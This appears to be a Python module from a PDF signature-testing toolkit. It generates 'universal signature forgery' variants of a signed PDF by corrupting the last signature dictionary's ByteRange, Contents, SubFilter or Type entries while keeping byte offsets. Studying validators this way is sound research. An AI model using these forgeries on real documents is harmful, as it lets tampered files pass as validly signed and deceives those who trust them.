"""USF, universal signature forgery: the signature's dictionary is broken so that its check is skipped (CCS'19 §4.1).

Bytes keep their places: each value is replaced by another of the same length, spaces filling what is left.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

RANGES = {
    "no byte range": b"/BitsRange [0 1 2 3]",
    "null": b"/ByteRange null",
    "empty": b"/ByteRange []",
    "zeros": b"/ByteRange [0 0 0 0]",
    "negative": b"/ByteRange [0 -1 9 9]",
    "three": b"/ByteRange [0 9 9]",
    "six": b"/ByteRange [0 1 2 3 4 5]",
    "nothing after": b"/ByteRange [0 9 9 0]",
    "reals": b"/ByteRange [0.5 9 9 9]",
    "names": b"/ByteRange [/a /b /c /d]",
    "a number": b"/ByteRange 12",
    "huge": b"/ByteRange [0 99999999999 9 9]",
    "a string": b"/ByteRange (0 1 2 3)",
}
CONTENTS = {
    "no contents": b"/Contonts <00>",
    "null": b"/Contents null",
    "empty": b"/Contents <>",
    "zero": b"/Contents <00>",
    "a name": b"/Contents /None",
    "a number": b"/Contents 0",
    "an array": b"/Contents []",
    "not hexadecimal": b"/Contents (x)",
}
OTHERS = {
    "no subfilter": (rb"/SubFilter /\S+", b"/SubFiltre /X"),
    "unknown subfilter": (rb"/SubFilter /\S+", b"/SubFilter /x"),
    "sha1 subfilter": (rb"/SubFilter /\S+", b"/SubFilter /adbe.x509"),
    "no type": (rb"/Type /Sig\b", b"/Typo /Sig"),
    "another type": (rb"/Type /Sig\b", b"/Type /XX "),
}


def attacks(base: bytes) -> Iterator[tuple[str, bytes]]:
    """Name and file, the last signature or timestamp broken."""
    for name, value in RANGES.items():
        yield f"ByteRange, {name}", _last(base, rb"/ByteRange ?\[[^\]]*\]\s*", value)
    for name, value in CONTENTS.items():
        yield f"Contents, {name}", _last(base, rb"/Contents ?<[0-9a-fA-F]*>", value)
    for name, (pattern, other) in OTHERS.items():
        yield name, _last(base, pattern, other)
    both = _last(base, rb"/ByteRange ?\[[^\]]*\]\s*", b"/ByteRange null")
    yield "both null", _last(both, rb"/Contents ?<[0-9a-fA-F]*>", b"/Contents null")


def _last(pdf: bytes, pattern: bytes, value: bytes) -> bytes:
    """The last match replaced, its length kept when there is room."""
    found = list(re.finditer(pattern, pdf))[-1]
    return pdf[: found.start()] + value.ljust(len(found.group())) + pdf[found.end() :]
